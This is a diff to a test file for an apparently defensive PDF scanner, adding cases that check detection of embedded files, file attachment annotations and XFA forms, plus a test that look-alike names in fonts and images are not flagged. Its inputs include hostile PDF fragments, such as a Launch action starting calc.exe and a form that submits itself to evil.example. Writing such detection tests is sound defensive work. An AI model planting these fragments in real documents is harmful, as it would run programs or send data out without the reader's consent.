@@ -27,6 +27,10 @@ test.each([
   ['a program to start', '3 0 obj<</S/Launch/F(calc.exe)>>endobj'],
   ['a file within', '3 0 obj<</Type/EmbeddedFile>>endobj'],
   ['files within by name', '3 0 obj<</Names<</EmbeddedFiles 4 0 R>>>>endobj'],
+  ['a file within whose stream says nothing of itself', '3 0 obj<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>endobj'],
+  ['a file within behind a reference', '3 0 obj<</Type/Filespec/F(a.exe)/#45F 4 0 R>>endobj'],
+  ['a note with a file', '3 0 obj<</Type/Annot/Subtype/FileAttachment>>endobj'],
+  ['a form with scripts of its own', '3 0 obj<</AcroForm<</XFA[(template) 4 0 R]>>>>endobj'],
   ['a form that sends itself', '3 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj'],
   ['a script in an object stream', packed('<</S/JavaScript/JS(x)>>')],
   [
@@ -39,6 +43,11 @@ test.each([
 
 test('a place to show first is no action: many programs write one', () => {
   expect(scan(`${page}3 0 obj<</OpenAction [2 0 R /Fit]>>endobj`)).toEqual({ pages: 1 });
+});
+
+test('words of pictures and fonts that begin like the name of a file within are none', () => {
+  const words = '/EF/EFG <</EF0 4 0 R /EFont 5 0 R /XFAB[1]>> stream\n/EF\u0003<</XFA\u0091\nendstream';
+  expect(scan(`${page}3 0 obj<<${words}>>endobj`)).toEqual({ pages: 1 });
 });
 
 test('a document with a password is refused', () => {
